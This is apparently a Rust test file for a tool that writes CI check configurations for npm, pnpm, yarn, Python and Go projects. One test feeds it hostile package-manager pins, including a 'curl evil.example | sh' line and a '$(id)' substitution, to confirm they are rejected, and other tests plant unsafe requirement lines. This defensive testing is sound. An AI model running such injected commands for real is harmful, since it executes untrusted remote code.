//! `init` and `validate` on common layouts (SPEC §27.4, §27.2): npm with a committed lock file,
//! pnpm and yarn workspaces and the `packageManager` pin, Go repositories with nested modules or
//! `go.work`; the fetch in `prepare` and `network = false` where the ecosystem fetches without
//! running code.

use closegate::config::{CheckSpec, Config};

use crate::fixture::{Fixture, Part, closegate, git, parts};

/// `init` (with `args`) in a fresh repository holding `files`, committed: (exit code, stdout and
/// stderr, the check written).
fn init_on(files: &[(&str, &str)], args: &[&str]) -> (i32, String, Option<CheckSpec>, Fixture) {
    let fx = Fixture::new();
    let root = fx.root();
    for (path, text) in files {
        fx.write(&root, path, text);
        git(&root, &["add", path]);
    }
    git(&root, &["commit", "-qm", "project"]);
    let mut all = vec!["init"];
    all.extend_from_slice(args);
    let (code, out, err) = parts(&closegate(&root, &all));
    let text = std::fs::read_to_string(root.join(".closegate.toml")).unwrap_or_default();
    let check = Config::parse(&text, "x")
        .ok()
        .and_then(|mut c| match c.checks.is_empty() {
            true => None,
            false => Some(c.checks.remove(0)),
        });
    (code, format!("{out}{err}"), check, fx)
}

fn guessed(files: &[(&str, &str)]) -> (CheckSpec, String) {
    let (code, out, check, _fx) = init_on(files, &["--no-try"]);
    assert_eq!(code, 0, "{out}");
    (check.expect("a check is guessed"), out)
}

/// The release `run` gives corepack that starts with `pin` (`pnpm@10.17.1`, or a bare `yarn`):
/// with npm and the registry at hand (as in CI), `init` names it with the hash of the registry's
/// tarball (`pnpm@10.17.1+sha512.<128 hex digits>`); without them, as pinned.
fn release_of(run: &str, pin: &str) -> String {
    let word = run
        .split_whitespace()
        .skip_while(|w| *w != "corepack")
        .nth(1)
        .unwrap_or_default()
        .to_string();
    assert!(word.starts_with(pin), "{pin}: {run}");
    // On PATH under its own name, for the project's scripts that call it (`pnpm -r test`).
    let name = pin.split('@').next().unwrap();
    let shim = format!("exec corepack {word} \"$@\"\\n' > \"$PWD\"/.closegate-cache/bin/{name}");
    assert!(
        run.contains(&shim) && run.contains("export PATH=\"$PWD\"/.closegate-cache/bin:\"$PATH\""),
        "{run}"
    );
    if crate::fixture::require(Part::Tool("npm")).is_some() {
        let (_, hash) = word
            .split_once("+sha512.")
            .expect("a release with its hash");
        assert!(
            hash.len() == 128 && hash.bytes().all(|b| b.is_ascii_hexdigit()),
            "{word}"
        );
    }
    word
}

const TEST_SCRIPT: &str = "\"scripts\": {\"test\": \"vitest run\"}";

/// SPEC §27.4: a pnpm workspace (its `catalog:` and `workspace:` protocols, which npm refuses)
/// is pnpm's, however it is recognised; the `packageManager` pin runs through corepack; with a
/// lock file the store is filled by `pnpm fetch` in `prepare` and the install is offline.
#[test]
fn a_pnpm_workspace_is_installed_by_pnpm_never_npm() {
    let root_json = format!(
        "{{\"private\": true, {TEST_SCRIPT}, \"devDependencies\": {{\"vitest\": \"catalog:\"}}, \
         \"packageManager\": \"pnpm@10.17.1\"}}\n"
    );
    let package = "{\"name\": \"a\", \"dependencies\": {\"b\": \"workspace:^\"}}\n";
    let cases: [(&str, Vec<(&str, &str)>); 2] = [
        (
            "workspace file and lock",
            vec![
                (
                    "pnpm-workspace.yaml",
                    "packages:\n  - packages/*\ncatalog:\n  vitest: ^3\n",
                ),
                ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
            ],
        ),
        (
            "lock alone",
            vec![("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")],
        ),
    ];
    for (what, extra) in cases {
        let mut files = vec![
            ("package.json", root_json.as_str()),
            ("packages/a/package.json", package),
        ];
        files.extend(extra);
        let (check, _) = guessed(&files);
        assert!(
            !check.run.split_whitespace().any(|w| w == "npm"),
            "{what}: {}",
            check.run
        );
        release_of(&check.run, "pnpm@10.17.1");
        assert!(
            check.run.contains("CI=true pnpm install --offline --frozen-lockfile --store-dir \"$PWD\"/.closegate-cache/pnpm-store"),
            "{what}: {}",
            check.run
        );
        // What `pnpm fetch` skipped runs offline (the fetch runs no dependency's build script).
        assert!(
            check.run.contains("&& pnpm rebuild --pending --store-dir"),
            "{what}: {}",
            check.run
        );
        assert!(
            check.run.ends_with("&& pnpm test -- --reporter=verbose"),
            "{what}: {}",
            check.run
        );
        let prepare = check.prepare.as_deref().unwrap_or_default();
        assert!(
            prepare.contains("; pnpm fetch --ignore-scripts --store-dir"),
            "{what}: {prepare}"
        );
        assert!(
            prepare.contains("COREPACK_HOME=\"$PWD\"/.closegate-cache/corepack"),
            "{what}: {prepare}"
        );
        assert!(!check.network, "{what}");
        assert!(
            check.writable.is_empty(),
            "{what}: the store is private: {:?}",
            check.writable
        );
        assert_eq!(check.keep, ["node_modules", ".closegate-cache"], "{what}");
        // corepack's downloads trust the extra CA a TLS-inspecting proxy needs (npm has `cafile`).
        assert_eq!(check.env, ["NODE_EXTRA_CA_CERTS"], "{what}");
    }
    // Without a lock file pnpm must resolve: the install keeps the network.
    let (check, _) = guessed(&[("package.json", &root_json)]);
    release_of(&check.run, "pnpm@10.17.1");
    assert!(
        check.run.contains("CI=true pnpm install --store-dir"),
        "{}",
        check.run
    );
    assert!(check.network && check.prepare.is_none(), "{check:?}");
}

/// SPEC §27.4: a yarn workspace (`yarn.lock` and `workspaces`) is yarn's: yarn 1 installs with
/// no script in `prepare`, then offline; yarn 2 and later (`.yarnrc.yml`, or the pin) skip the
/// builds in `prepare` and install with the network off.
#[test]
fn a_yarn_workspace_is_installed_by_yarn() {
    let root_json = "{\"private\": true, \"workspaces\": [\"packages/*\"], \"scripts\": {\"test\": \"lerna run test\"}}\n";
    let (check, _) = guessed(&[
        ("package.json", root_json),
        ("yarn.lock", "# yarn lockfile v1\n"),
    ]);
    // No pin: the registry's latest yarn 1, named with its hash (corepack's own when offline).
    release_of(&check.run, "yarn");
    let prepare = check.prepare.as_deref().unwrap();
    assert!(
        prepare.contains("; yarn install --frozen-lockfile --ignore-scripts"),
        "{prepare}"
    );
    assert!(
        check
            .run
            .contains("; yarn install --frozen-lockfile --offline")
            && check.run.ends_with("&& yarn test"),
        "{}",
        check.run
    );
    assert!(!check.network);
    let berry = root_json.replace(
        "{\"private\"",
        "{\"packageManager\": \"yarn@4.5.0\", \"private\"",
    );
    let (check, _) = guessed(&[("package.json", &berry), ("yarn.lock", "__metadata:\n")]);
    assert!(check.prepare.unwrap().contains("--mode=skip-build"));
    assert!(check.run.contains("YARN_ENABLE_NETWORK=0"), "{}", check.run);
    // A yarn.lock without workspaces stays npm's (as before): `npm install` reads package.json.
    let single = "{\"scripts\": {\"test\": \"jest\"}}\n";
    let (check, _) = guessed(&[
        ("package.json", single),
        ("yarn.lock", "# yarn lockfile v1\n"),
    ]);
    assert!(
        check
            .prepare
            .unwrap()
            .contains("npm install --ignore-scripts")
    );
}

/// Attack (issue 50): a `packageManager` pin is followed only as `name@version[+algo.hex]`; a URL
/// (corepack would download and run it, in `prepare`, with the network) or shell text is not
/// written into the check, which names its own release instead. A pin's own hash is kept as is:
/// corepack checks every download against it.
#[test]
fn a_hostile_package_manager_pin_is_not_followed() {
    let lock = ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n");
    for pin in [
        "pnpm@https://evil.example/pnpm.tgz",
        "pnpm@10.17.1; curl evil.example | sh",
        "pnpm@>=10",
        "pnpm@10.17.1+sha512.$(id)",
    ] {
        let json = format!(
            "{{{TEST_SCRIPT}, \"packageManager\": {}}}\n",
            serde_json::json!(pin)
        );
        let (check, _) = guessed(&[("package.json", &json), lock]);
        let prepare = check.prepare.unwrap_or_default();
        for text in [&check.run, &prepare] {
            assert!(
                !text.contains("evil") && !text.contains("$(id)") && !text.contains(">="),
                "{pin}: {text}"
            );
        }
        let pnpm = release_of(&check.run, "pnpm");
        assert!(pnpm == "pnpm" || pnpm.starts_with("pnpm@"), "{pin}: {pnpm}");
    }
    let hash = "a".repeat(128);
    let json = format!("{{{TEST_SCRIPT}, \"packageManager\": \"pnpm@10.17.1+sha512.{hash}\"}}\n");
    let (check, _) = guessed(&[("package.json", &json), lock]);
    assert!(
        check
            .run
            .contains(&format!("exec corepack pnpm@10.17.1+sha512.{hash} ")),
        "{}",
        check.run
    );
}

/// SPEC §27.4 (issue 50): `npm ci` empties `node_modules/`, so the guess's stamp is never made
/// there before it: with a committed `package-lock.json` `init`'s own try passes.
#[test]
fn npm_with_a_committed_lock_file_passes_its_own_try() {
    if crate::fixture::require(Part::Tool("npm")).is_none() {
        return;
    }
    let package =
        "{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"node t.js\"}}\n";
    let lock = "{\"name\": \"demo\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, \"requires\": true, \
                \"packages\": {\"\": {\"name\": \"demo\", \"version\": \"1.0.0\"}}}\n";
    let files = [
        ("package.json", package),
        ("package-lock.json", lock),
        ("t.js", "console.log('tested-ok');\n"),
    ];
    let (code, out, check, _fx) = init_on(&files, &[]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("try: `test` passed on"), "{out}");
    let check = check.unwrap();
    assert!(
        !check.run.contains(".closegate-deps.new")
            && !check
                .prepare
                .unwrap()
                .contains("node_modules/.closegate-deps.new")
    );
}

/// SPEC §27.4 (issue 50): a Python project whose base tip has stood for over a year resolves its
/// unpinned dependencies as of that tip's date (`pip install --uploaded-prior-to`, with a pip that
/// knows it), the date in the stamp; one committed today resolves as before.
#[test]
fn a_dormant_python_project_resolves_as_of_its_base_tip() {
    let pyproject = "[project]\nname = \"demo\"\nversion = \"0.1\"\n\n\
                     [project.optional-dependencies]\ntest = [\"mypy~=1.4\"]\n";
    let fx = Fixture::new();
    let root = fx.root();
    fx.write(&root, "pyproject.toml", pyproject);
    git(&root, &["add", "pyproject.toml"]);
    let mut commit = std::process::Command::new("git");
    commit.args(["commit", "-qm", "project"]).current_dir(&root);
    crate::fixture::hermetic(&mut commit, &root);
    let old = "2024-10-10T00:45:06Z";
    assert!(
        commit
            .env("GIT_COMMITTER_DATE", old)
            .status()
            .unwrap()
            .success()
    );
    let (code, out, err) = parts(&closegate(&root, &["init", "--no-try"]));
    assert_eq!(code, 0, "{out}{err}");
    let text = std::fs::read_to_string(root.join(".closegate.toml")).unwrap();
    let check = &Config::parse(&text, "x").unwrap().checks[0];
    // Declared dependencies: resolved and fetched in `prepare` (SPEC §27.2); the date is in the
    // stamp both steps make.
    let prepare = check.prepare.as_deref().unwrap_or_default();
    for step in [prepare, &check.run] {
        assert!(
            step.contains(&format!(
                "{{ echo {old}; cat pyproject.* setup.* *requirements*.txt requirements/*.txt 2>/dev/null; }}"
            )),
            "{step}"
        );
    }
    assert!(
        prepare.contains(&format!(
            "python3 -m venv --clear .venv && .venv/bin/python -m pip install -q \
             --disable-pip-version-check 'pip>=26' && .venv/bin/python -m pip install -q --disable-pip-version-check \
             --uploaded-prior-to={old} --only-binary :all: -r \"$TMPDIR\"/closegate-reqs.txt && cp"
        )) && prepare.contains(" E:test "),
        "{prepare}"
    );
    // Committed today: today's releases, as before.
    let (check, _) = guessed(&[("pyproject.toml", pyproject)]);
    let prepare = check.prepare.as_deref().unwrap_or_default();
    assert!(
        !prepare.contains("--uploaded-prior-to") && !prepare.contains("pip>=26"),
        "{prepare}"
    );
    assert!(!check.run.contains("--uploaded-prior-to"), "{}", check.run);
}

/// The part of a Python check's `prepare` that reads the declared requirements (closegate's own
/// Python, no network, none of the project's code), run as `init` wrote it in `root` as the files
/// are now: its exit status, its stdout lines and its stderr.
fn declared_requirements(root: &std::path::Path, prepare: &str) -> (i32, Vec<String>, String) {
    let start = prepare.find("python3 -c ").expect("the reader");
    let end = prepare
        .find(" > \"$TMPDIR\"/closegate-reqs.txt")
        .expect("its output");
    let out = std::process::Command::new("sh")
        .args(["-c", &prepare[start..end]])
        .current_dir(root)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    (
        out.status.code().unwrap_or(-1),
        stdout.lines().map(str::to_string).collect(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// SPEC §27.2: a Python project that declares its dependencies is fetched in `prepare`, which
/// reads them from the files as they are at the commit and runs none of the project's code.
/// Attacks: a requirement file that names the checkout (`-e .`, a path, `file:`) or a URL pip
/// would build from, or dependencies turned `dynamic`, would have `prepare` run the project's
/// build with the network: it fails naming the file instead. A requirement naming the project
/// itself is never fetched from the index (a release of that name there is anyone's): it brings
/// its extras.
#[test]
fn declared_python_dependencies_are_read_without_running_the_project() {
    let pyproject = "[project]\nname = \"Demo.Pkg\"\nversion = \"0.1\"\n\
                     dependencies = [\"attrs>=22\", \"demo_pkg[extra]\"]\n\n\
                     [project.optional-dependencies]\nextra = [\"six\"]\ntest = [\"mypy~=1.4\"]\n\n\
                     [dependency-groups]\nbase = [\"freezegun\"]\n\
                     tests = [{include-group = \"base\"}, \"hypothesis\"]\n";
    let reqs = "# pinned\ncoverage==7.4 \\\n    --hash=sha256:00\n";
    let (code, out, check, fx) = init_on(
        &[
            ("pyproject.toml", pyproject),
            ("requirements-test.txt", reqs),
        ],
        &["--no-try"],
    );
    assert_eq!(code, 0, "{out}");
    let check = check.unwrap();
    assert!(!check.network, "{check:?}");
    let prepare = check.prepare.clone().unwrap();
    let root = fx.root();
    let (status, lines, err) = declared_requirements(&root, &prepare);
    assert_eq!(status, 0, "{err}");
    assert_eq!(
        lines,
        [
            "attrs>=22",
            "six",
            "mypy~=1.4",
            "freezegun",
            "hypothesis",
            "coverage==7.4     --hash=sha256:00",
            "setuptools>=40.8.0",
            "wheel",
            "pytest",
        ],
        "{prepare}"
    );
    // As the files are at the commit: a dependency added later is read then.
    fx.write(
        &root,
        "pyproject.toml",
        &pyproject.replace("attrs>=22", "attrs>=22\", \"idna"),
    );
    let (_, lines, _) = declared_requirements(&root, &prepare);
    assert!(lines.iter().any(|l| l == "idna"), "{lines:?}");

    let planted = [
        "-e .\n",
        "./vendor/pkg\n",
        "pkg @ file:///tmp/pkg\n",
        "git+https://example.com/pkg.git\n",
        "-r other.txt\n",
        "--index-url file:///tmp/index\n",
    ];
    for line in planted {
        fx.write(&root, "pyproject.toml", pyproject);
        fx.write(&root, "requirements-test.txt", line);
        let (status, lines, err) = declared_requirements(&root, &prepare);
        assert_ne!(status, 0, "{line}: {lines:?}");
        assert!(err.contains("requirements-test.txt: "), "{line}: {err}");
    }
    fx.write(&root, "requirements-test.txt", reqs);
    let dynamic = pyproject.replace("version = \"0.1\"", "dynamic = [\"dependencies\"]");
    fx.write(&root, "pyproject.toml", &dynamic);
    let (status, _, err) = declared_requirements(&root, &prepare);
    assert_ne!(status, 0);
    assert!(
        err.contains("pyproject.toml: dependencies dynamic"),
        "{err}"
    );

    // Already so when `init` runs: the install keeps the network, in `run`.
    for files in [
        vec![("pyproject.toml", dynamic.as_str())],
        vec![
            ("pyproject.toml", pyproject),
            ("requirements-test.txt", "-e .\n"),
        ],
        vec![("setup.cfg", "[metadata]\nname = demo\n")],
    ] {
        let (check, _) = guessed(&files);
        assert!(
            check.network && check.prepare.is_none(),
            "{files:?}: {check:?}"
        );
    }
    // pip-tools' layout (itsdangerous before 2.2: `requirements/tests.txt`, compiled with
    // comments): its pins are what the tests import.
    let pinned = "#\n#    pip-compile tests.in\n#\nfreezegun==1.4.0\n    # via -r tests.in\n";
    let (code, out, check, fx) = init_on(
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"demo\"\nversion = \"0.1\"\n",
            ),
            ("requirements/tests.txt", pinned),
        ],
        &["--no-try"],
    );
    assert_eq!(code, 0, "{out}");
    let prepare = check.unwrap().prepare.unwrap();
    assert!(prepare.contains(" R:requirements/tests.txt "), "{prepare}");
    let (status, lines, err) = declared_requirements(&fx.root(), &prepare);
    assert_eq!(status, 0, "{err}");
    assert!(lines.iter().any(|l| l == "freezegun==1.4.0"), "{lines:?}");
    // The project later moves its test dependencies into a dependency group (itsdangerous did):
    // the same `prepare` reads the group, with no new `init`.
    let root = fx.root();
    std::fs::remove_file(root.join("requirements/tests.txt")).unwrap();
    fx.write(
        &root,
        "pyproject.toml",
        "[project]\nname = \"demo\"\nversion = \"0.1\"\n\n[dependency-groups]\n\
         dev = [\"ruff\"]\ntests = [\"freezegun\", \"pytest\"]\n",
    );
    let (status, lines, err) = declared_requirements(&root, &prepare);
    assert_eq!(status, 0, "{err}");
    assert_eq!(
        lines,
        ["freezegun", "pytest", "setuptools>=40.8.0", "wheel"],
        "the first test group alone, not `dev`"
    );

    // Nothing to install of its own: the requirement files and pytest.
    let files = [
        ("pytest.ini", "[pytest]\n"),
        ("requirements-dev.txt", "attrs\n"),
    ];
    let (code, out, check, fx) = init_on(&files, &["--no-try"]);
    assert_eq!(code, 0, "{out}");
    let check = check.unwrap();
    let prepare = check.prepare.as_deref().unwrap_or_default();
    let (status, lines, err) = declared_requirements(&fx.root(), prepare);
    assert_eq!(status, 0, "{err}");
    assert_eq!(lines, ["attrs", "pytest"], "{prepare}");
    assert!(
        check
            .run
            .contains("closegate-cache/pip; .venv/bin/python -m pytest"),
        "{}",
        check.run
    );
}

const GO_MOD: &str = "module example.com/demo\n\ngo 1.19\n";

/// SPEC §27.4: a nested module `./...` never reaches is tested with its own `go test ./...`;
/// one in a folder the go tool skips is named by `init`, unless `go.work` uses it.
#[test]
fn go_nested_modules_are_tested_or_named() {
    let files = [
        ("go.mod", GO_MOD),
        ("demo.go", "package demo\n"),
        ("sub/go.mod", "module example.com/demo/sub\n\ngo 1.19\n"),
        (
            "_tools/go.mod",
            "module example.com/demo/_tools\n\ngo 1.19\n",
        ),
        ("testdata/fixture/go.mod", "module fixture\n"),
    ];
    let (check, out) = guessed(&files);
    assert!(
        check
            .run
            .ends_with("go test -json ./... && (cd sub && go test -json ./...)"),
        "{}",
        check.run
    );
    assert!(
        check
            .prepare
            .unwrap()
            .ends_with("go mod download && (cd sub && go mod download)")
    );
    assert!(
        !check.run.contains("_tools") && !check.run.contains("testdata"),
        "{}",
        check.run
    );
    assert!(
        out.contains("note: Go module `_tools` (_tools/go.mod) is tested by no check"),
        "{out}"
    );
    assert!(!out.contains("`sub`"), "{out}");

    let mut with_work = files.to_vec();
    with_work.push(("go.work", "go 1.22\n\nuse (\n\t.\n\t./sub\n\t./_tools\n)\n"));
    let (check, out) = guessed(&with_work);
    assert!(
        check.run.contains("(cd _tools && go test -json ./...)"),
        "{}",
        check.run
    );
    assert!(!out.contains("note: Go module"), "{out}");
}

/// The try on a Go repository with a nested module passes with no network for the tests.
#[test]
fn go_nested_module_try_passes() {
    if crate::fixture::require(Part::Tool("go")).is_none() {
        return;
    }
    let test = "package demo\n\nimport \"testing\"\n\nfunc TestOne(t *testing.T) {}\n";
    let files = [
        ("go.mod", GO_MOD),
        ("demo_test.go", test),
        ("sub/go.mod", "module example.com/demo/sub\n\ngo 1.19\n"),
        ("sub/demo_test.go", test),
    ];
    let (code, out, _, _fx) = init_on(&files, &[]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("try: `test` passed on"), "{out}");
}

/// `validate` in `root` with the configuration `config` committed beside `files`: its output.
fn validate_on(config: &str, files: &[(&str, &str)]) -> String {
    let fx = Fixture::new();
    let root = fx.root();
    let mut all: Vec<(&str, Option<&str>)> = files.iter().map(|(p, t)| (*p, Some(*t))).collect();
    all.push((".closegate.toml", Some(config)));
    fx.commit("main", &all, "project");
    fx.checkout(&root);
    let (code, out, err) = parts(&closegate(&root, &["validate"]));
    assert_eq!(code, 0, "warnings only: {out}{err}");
    format!("{out}{err}")
}

/// SPEC §27.4: `validate` names every module and workspace package no check tests.
#[test]
fn validate_names_each_module_or_package_a_check_leaves_out() {
    let go = "[[checks]]\nname = \"test\"\nrun = \"go test ./...\"\n";
    let files = [
        ("go.mod", GO_MOD),
        ("sub/go.mod", "module x/sub\n"),
        ("_tools/go.mod", "module x/t\n"),
    ];
    let out = validate_on(go, &files);
    assert!(
        out.contains("Go module `sub` (sub/go.mod) is tested by no check: `go test ./...` stops"),
        "{out}"
    );
    assert!(
        out.contains("Go module `_tools` (_tools/go.mod) is tested by no check: the go tool skips"),
        "{out}"
    );
    let covered =
        "[[checks]]\nname = \"test\"\nrun = \"go test ./... && (cd sub && go test ./...)\"\n";
    let out = validate_on(covered, &files);
    assert!(!out.contains("`sub`") && out.contains("`_tools`"), "{out}");

    let npm = "[[checks]]\nname = \"test\"\nrun = \"npm test\"\n";
    let package = "{\"name\": \"a\", \"scripts\": {\"test\": \"jest\"}}\n";
    let untested = "{\"name\": \"c\", \"scripts\": {\"build\": \"tsc\"}}\n";
    let root_json = |test: &str| {
        format!(
            "{{\"workspaces\": [\"packages/*\", \"!packages/skip\"], \"scripts\": {{\"test\": \"{test}\"}}}}\n"
        )
    };
    let single = root_json("jest");
    let files = [
        ("package.json", single.as_str()),
        ("packages/a/package.json", package),
        ("packages/c/package.json", untested),
        ("packages/skip/package.json", package),
    ];
    let out = validate_on(npm, &files);
    assert!(
        out.contains("workspace package `packages/a` has a test script no check runs"),
        "{out}"
    );
    assert!(
        !out.contains("packages/c") && !out.contains("packages/skip"),
        "{out}"
    );
    let every = root_json("npm test --workspaces");
    let mut files = files.to_vec();
    files[0].1 = every.as_str();
    let out = validate_on(npm, &files);
    assert!(!out.contains("workspace package"), "{out}");
}
